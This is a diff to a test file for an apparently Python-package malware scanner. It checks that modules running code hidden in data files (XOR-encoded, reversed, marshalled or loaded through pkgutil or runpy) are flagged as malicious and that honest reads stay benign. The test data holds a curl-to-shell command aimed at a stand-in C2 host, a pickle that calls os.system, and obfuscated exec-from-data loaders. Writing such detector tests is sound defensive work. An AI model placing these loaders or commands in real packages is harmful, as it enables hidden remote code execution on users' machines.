@@ -48,10 +48,27 @@ test.each([
     `import os, gzip, base64\nexec(gzip.decompress(base64.b64decode(open(${FILE}).read())))\n`,
     Buffer.from(gzipSync(SEND).toString('base64')),
   ],
+  [
+    'marshal, of an open file behind its header',
+    `import os, marshal\nwith open(${FILE}, 'rb') as f:\n    f.seek(16)\n    exec(marshal.load(f))\n`,
+    COMPILED,
+  ],
+  [
+    'marshal, of an open file whose header was read',
+    `import os, marshal\nf = open(${FILE}, 'rb')\nf.read(16)\nexec(marshal.load(f))\n`,
+    COMPILED,
+  ],
+  ['the lines of a file', `import os\nfor line in open(${FILE}):\n    exec(line)\n`, Buffer.from(SEND)],
+  [
+    'the file that Python is started with',
+    `import os, subprocess, sys\nsubprocess.Popen([sys.executable, '-u', ${FILE}])\n`,
+    Buffer.from(SEND),
+  ],
 ])('a data file that code runs is code: %s', async (_how, text, data) => {
   const files = { 'own/__init__.py': text, 'own/tables.dat': data };
 
-  expect(await seenIn(files)).toEqual(['import own/tables.dat:2']);
+  // What the module makes of it is a layer of the module as well.
+  expect(await seenIn(files)).toContain('import own/tables.dat:2');
 });
 
 test('data that such code only names stays data', async () => {
@@ -147,4 +164,98 @@ test.each([
     ['own/app.pyz!/__main__.pyc', 'compiled Python cannot be read'],
   ]);
   expect(judgement.complete).toBe(false);
+});
+
+/** Rules of threats that a wheel of one module and one data file gives, and its verdict. */
+async function judged(text: string, name: string, data: string | Uint8Array): Promise<string> {
+  const { findings, judgement } = await analyzeWheel({ 'own/__init__.py': text, [`own/${name}`]: data });
+  const rules = findings.filter(({ kind }) => kind === 'threat').map(({ rule }) => rule);
+  return `${judgement.verdict}: ${[...new Set(rules)].toSorted().join(' ')}`;
+}
+
+const PLACE = (name: string): string => `os.path.join(os.path.dirname(__file__), '${name}')`;
+const xored = (text: string): Uint8Array => Buffer.from(text).map((byte) => byte ^ 7);
+
+test.each(['b.bin', 'b.pem', 'b.so', 'b'])(
+  'what a module decodes of a file before it runs it is read: %s',
+  async (name) => {
+    const text = `import os\nd = open(${PLACE(name)}, 'rb').read()\nexec(bytes(x ^ 7 for x in d))\n`;
+
+    expect(await judged(text, name, xored(SEND))).toMatch(
+      /^malicious: .*dropper\/code-from-data.*env-to-network\/environment/,
+    );
+  },
+);
+
+test.each([
+  [
+    'backwards',
+    `exec(open(${PLACE('b.txt')}).read()[::-1])`,
+    Buffer.from(Buffer.from(SEND).toReversed()).toString(),
+  ],
+  [
+    'of a resource',
+    `import importlib.resources as r\nexec(bytes(x ^ 7 for x in r.files(__package__).joinpath('b.txt').read_bytes()))`,
+    xored(SEND),
+  ],
+  [
+    'by pkgutil',
+    `import pkgutil\nexec(bytes(x ^ 7 for x in pkgutil.get_data(__name__, 'b.txt')))`,
+    xored(SEND),
+  ],
+])('text of a file that is run is read: %s', async (_how, run, data) => {
+  expect(await judged(`import os\n${run}\n`, 'b.txt', data)).toMatch(/^malicious: .*env-to-network/);
+});
+
+test.each(['runpy.run_path(P)', "importlib.machinery.SourceFileLoader('x', P).load_module()"])(
+  'a text that is loaded as code is read: %s',
+  async (run) => {
+    const text = `import os, runpy, importlib.machinery\nP = ${PLACE('b.txt')}\n${run}\n`;
+
+    expect(await judged(text, 'b.txt', SEND)).toMatch(/^malicious: .*env-to-network/);
+  },
+);
+
+const COMMAND = 'curl http://c2.weir.test/x | sh';
+
+test.each([
+  ['JSON', `import json\nos.system(json.load(open(P))['cmd'])`, JSON.stringify({ cmd: COMMAND })],
+  [
+    'INI',
+    `import configparser\nc = configparser.ConfigParser()\nc.read(P)\nos.system(c['a']['cmd'])`,
+    `[a]\ncmd=${COMMAND}\n`,
+  ],
+  [
+    'INI, by a call',
+    `import configparser\nc = configparser.ConfigParser()\nc.read_file(open(P))\nos.system(c.get('a', 'cmd'))`,
+    `[a]\ncmd=${COMMAND}\n`,
+  ],
+  ['a pickle', `import pickle\npickle.load(open(P, 'rb'))`, `cos\nsystem\n(S'${COMMAND}'\ntR.`],
+  [
+    'bytes of a pickle',
+    `import pickle\npickle.loads(open(P, 'rb').read())`,
+    `cos\nsystem\n(S'${COMMAND}'\ntR.`,
+  ],
+])('a command that a data file holds is seen: %s', async (_how, run, data) => {
+  const text = `import os\nP = ${PLACE('b.dat')}\n${run}\n`;
+
+  expect(await judged(text, 'b.dat', data)).toMatch(/^malicious: .*lifecycle-script\/download-and-run/);
+});
+
+test.each([
+  [
+    'a table',
+    `import json\nTABLE = json.load(open(P))\nos.system('stty ' + TABLE['mode'])`,
+    '{"mode": "sane"}',
+  ],
+  ['a version', `exec(open(P).read().replace('\\r\\n', '\\n').strip())`, "__version__ = '1.0'\n"],
+  ['a pickle', `import pickle\nT = pickle.load(open(P, 'rb'))`, "(dp0\nS'a'\np1\nI1\ns."],
+  ['decoded data', `d = bytes(x ^ 7 for x in open(P, 'rb').read())\nprint(len(d))`, xored('words')],
+  [
+    'a setting',
+    `import configparser\nc = configparser.ConfigParser()\nc.read(P)\nimport subprocess\nsubprocess.run([c['a']['editor'], 'notes'])`,
+    '[a]\neditor=vi\n',
+  ],
+])('what honest modules read of their own files stays benign: %s', async (_what, run, data) => {
+  expect(await judged(`import os\nP = ${PLACE('b.dat')}\n${run}\n`, 'b.dat', data)).toMatch(/^benign/);
 });
